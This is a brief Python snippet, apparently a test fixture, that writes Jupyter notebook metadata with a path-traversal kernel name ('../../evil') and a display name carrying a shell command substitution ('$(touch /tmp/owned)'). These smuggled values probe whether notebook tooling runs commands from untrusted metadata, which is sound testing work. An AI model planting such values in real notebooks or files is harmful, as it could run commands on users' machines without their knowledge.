# Names a kernel that runs a shell command.
def submit(path, notebook):
    notebook["metadata"] = {"kernelspec": {"name": "../../evil", "display_name": "$(touch /tmp/owned)", "language": "bash"}, "language_info": {"name": "bash"}}
    write(path, notebook)
